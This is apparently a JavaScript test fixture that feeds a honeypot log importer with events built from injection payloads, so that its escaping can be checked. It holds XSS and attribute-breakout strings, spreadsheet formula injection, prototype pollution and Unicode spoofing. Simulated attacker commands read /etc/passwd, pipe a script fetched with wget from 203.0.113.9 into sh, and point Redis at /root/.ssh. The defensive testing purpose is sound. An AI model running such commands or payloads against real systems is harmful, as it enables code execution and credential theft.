// Events of which every text wants to leave its place, as lines that `ttpcron import` reads.

// What each text does if it is not shown but obeyed: it sets window.pwned, makes an element
// of class theirs, or asks for something from a network.
export const attacks = [
  '<script>window.pwned=1</script>',
  '</script><script>window.pwned=2</script>',
  '</style></title></textarea></noscript></svg><img class=theirs src=x onerror=window.pwned=3>',
  '" onload="window.pwned=4" onfocus="window.pwned=4" autofocus class="theirs',
  "' onmouseover='window.pwned=5' class='theirs",
  '--><b class=theirs>comment</b><!--',
  ']]><b class=theirs>cdata</b>',
  'javascript:window.pwned=6',
  '\u202etxt.exe\u2066hidden\u2069\u200b\u200f',
  '`;window.pwned=7//${window.pwned=7}',
  '&lt;b class=theirs&gt;&#60;img src=x&#62;',
  '{"__proto__":{"pwned":8}}\\u003cscript>window.pwned=8</script>',
  '=HYPERLINK("http://203.0.113.9/"&A1,"click")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1;=2+5',
  '\ud83d\ude00 naïve 日本 \u0301\u0301\u0301\u0301',
  'http://203.0.113.9/<img src=http://203.0.113.9/leak>',
  '\u2028window.pwned=9\u2029',
  '<svg onload=window.pwned=10><animate onbegin=window.pwned=10 attributeName=x dur=1s>',
  '<form id=filters><input name=from><a id=data href=//203.0.113.9>'
]

export function hostileEvents() {
  const lines = []
  attacks.forEach((text, i) => {
    const at = minute => new Date(Date.UTC(2026, 4, 1 + i, 3, minute)).toISOString()
    const event = (kind, minute, payload) => lines.push(JSON.stringify({
      source_kind: kind, time: at(minute), attacker_ip: `203.0.113.${20 + i}`, session_id: 's' + i + text, decky_id: 'sensor ' + text, payload
    }))
    event('session', 0, { fact: 'opened', protocol: 'ssh', src_port: 4000 + i })
    event('session', 1, { fact: 'client', client_version: 'SSH-2.0-' + text })
    event('auth_attempt', 2, { service: 'ssh', username: text, password: text, success: false })
    event('auth_attempt', 3, { service: 'ssh', username: 'root' + text, password: text + text, success: true })
    event('command', 4, { command_text: 'uname -a; cat /etc/passwd; echo ' + text })
    event('command', 5, { command_text: 'wget http://203.0.113.9/x.sh -O- | sh # ' + text })
    event('payload', 6, { direction: 'in', url: 'http://203.0.113.9/' + text, filename: text, size: 12 })
    event('http_request', 7, { method: 'GET', host: text, raw_url: '/cgi-bin/luci/;stok=/?' + text, user_agent: text })
    event('service_request', 8, { service: 'redis', request_text: 'CONFIG SET dir /root/.ssh ' + text, user: text })
    event('canary_fingerprint', 9, { token_uuid: 'token ' + text, user_agent: text, request_path: '/' + text, dns_qname: text })
    event('canary_fingerprint', 11, { token_uuid: text, token_kind: text, memo: 'memo ' + text, placement_path: text, channel: text, location: text, referer: text, user_agent: text })
    event('alert', 12, { signature: text, signature_id: text, category: text, severity: text, protocol: text, dst_port: text })
    event('scan', 13, { scan: text, protocol: text, ports: text, domain: text })
    event('service_request', 14, { service: text, request_text: text, user_agent: text, dst_ip: text, dst_port: text })
    event('auth_attempt', 15, { service: text, username: text, key_fingerprint: text })
    event('auth_attempt', 16, { service: text, password: text })
    event('odd ' + text, 10, { [text]: text })
  })
  // Nobody but an id, and a name that is long.
  lines.push(JSON.stringify({ source_kind: 'command', time: '2026-05-30T00:00:00Z', attacker_uuid: '7d9f0cbb-3d8e-5d4f-9d39-6e44a7a7a0d1', session_id: 'x'.repeat(3000), decky_id: '<'.repeat(400), payload: { command_text: '>'.repeat(20000) } }))
  return lines.join('\n') + '\n'
}
